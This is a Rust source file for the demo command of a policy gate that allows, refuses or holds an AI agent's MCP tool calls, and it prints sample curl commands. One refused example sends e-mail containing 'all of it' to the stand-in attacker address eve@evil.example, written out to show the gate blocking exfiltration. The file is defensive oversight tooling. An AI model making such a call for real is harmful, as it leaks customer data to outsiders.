//! See it work, without a server of your own.

pub mod server;
mod tools;
mod world;

use std::fs;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

use clap::Args;
use tokio::net::TcpListener;

use super::run::{VERSION, failure, runtime, told_to_stop};
use super::{Exit, Failure, init, say};
use crate::app::App;
use crate::config;
use crate::telemetry;

/// Show it at work: a small MCP server with the gate in front of it
///
/// Starts a server of payments, a customer record, e-mail and files inside this process, the gate
/// before it with the shipped policies, and prints three commands to paste: an allowed, a refused
/// and a held call. Keeps its state in a temporary directory, which it removes.
#[derive(Debug, Args)]
pub struct Arguments {
    /// Where agents connect
    #[arg(long, value_name = "ADDRESS", default_value = "127.0.0.1:8700")]
    pub listen: SocketAddr,
    /// Where operators connect
    #[arg(long, value_name = "ADDRESS", default_value = "127.0.0.1:8701")]
    pub operator: SocketAddr,
    /// Where the sample server is, for a gate of your own; anywhere by default
    #[arg(long, value_name = "ADDRESS", default_value = "127.0.0.1:0", hide_default_value = true)]
    pub server: SocketAddr,
}

/// Serves the demo until a signal ends it.
///
/// # Errors
/// If a listener cannot be bound.
pub fn run(arguments: &Arguments) -> Result<Exit, Failure> {
    let settings = telemetry::Settings {
        format: telemetry::Format::Text,
        level: "info".to_owned(),
        otlp: None,
    };
    let _telemetry =
        telemetry::init(&settings).map_err(|fault| Failure::Message(fault.to_string()))?;
    let directory = Directory::new()?;
    runtime()?.block_on(async {
        let sample = TcpListener::bind(arguments.server).await.map_err(|error| {
            Failure::Message(format!("cannot listen on {}: {error}", arguments.server))
        })?;
        let text = config_text(arguments, sample.local_addr()?);
        let config = config::parse(&text, &directory.0)?;
        let app = App::bind(config, VERSION).await.map_err(failure)?;
        let stop = told_to_stop()?;
        let sample = tokio::spawn(server::serve(sample));
        let link = app.sign_in_link().unwrap_or_default();
        say(&hints(app.agents_at()?, link, &directory.0))?;
        app.serve(stop).await;
        sample.abort();
        Ok(Exit::Done)
    })
}

fn config_text(arguments: &Arguments, sample: SocketAddr) -> String {
    let Arguments { listen, operator, .. } = arguments;
    format!(
        "listen: \"{listen}\"\n\
         operator: {{listen: \"{operator}\"}}\n\
         environment: demo\n\
         state: ./state\n\
         policies: [./policies]\n\
         tools: [./tools]\n\
         agents: [{{id: demo, anonymous: true}}]\n\
         servers: {{demo: {{mcp: \"http://{sample}/mcp\"}}}}\n"
    )
}

/// What to paste: an allowed, a refused and a held call.
fn hints(agents: SocketAddr, link: &str, directory: &Path) -> String {
    let call = |tool: &str, arguments: &str| {
        format!(
            "curl -sw '\\n' http://{agents}/mcp/demo -H 'content-type: application/json' \\\n     \
             -H 'accept: application/json, text/event-stream' \\\n     \
             -d '{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":\
             {{\"name\":\"{tool}\",\"arguments\":{arguments}}}}}'"
        )
    };
    let allowed = call("lookup_customer", r#"{"customer_id":"cus_1001"}"#);
    let refused =
        call("send_email", r#"{"to":"eve@evil.example","subject":"hi","body":"all of it"}"#);
    let held = call("refund", r#"{"payment_id":"pay_5001","amount":"250.00","reason":"damaged"}"#);
    // Whoever came by `cargo run` has it on no path.
    let program = std::env::args_os().next().unwrap_or_else(|| "countersign".into());
    format!(
        "The gate listens for agents on http://{agents}/mcp/demo and for reviewers here; the link\n\
         works once: {link}\n\
         Its policies are in {}; change one and it is loaded at once.\n\n\
         Allowed:\n  {allowed}\n\n\
         Refused, by a rule:\n  {refused}\n\n\
         Held, for a person to sign:\n  {held}\n\n\
         What happened:\n  {} audit tail --state {}\n\n\
         Ctrl-C ends it.\n",
        directory.join("policies").display(),
        program.display(),
        directory.join("state").display(),
    )
}

/// A temporary directory with the shipped policies, gone when dropped.
struct Directory(PathBuf);

impl Directory {
    fn new() -> Result<Self, Failure> {
        let name = format!("countersign-demo-{}", uuid::Uuid::new_v4().simple());
        let directory = Self(std::env::temp_dir().join(name));
        for (name, text) in init::FILES {
            let path = directory.0.join(name);
            if let Some(folder) = path.parent() {
                fs::create_dir_all(folder)?;
            }
            fs::write(path, text)?;
        }
        Ok(directory)
    }
}

impl Drop for Directory {
    fn drop(&mut self) {
        // What is left of it is in the system's temporary directory, which is swept.
        let _ = fs::remove_dir_all(&self.0);
    }
}
